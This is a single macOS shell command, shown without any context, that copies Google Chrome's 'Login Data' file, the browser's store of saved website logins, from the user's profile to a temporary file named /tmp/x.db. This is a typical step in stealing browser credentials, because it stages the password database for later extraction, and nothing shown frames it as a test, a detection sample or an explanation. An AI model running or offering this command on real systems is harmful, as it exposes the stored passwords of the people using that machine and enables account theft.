cp "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" /tmp/x.db
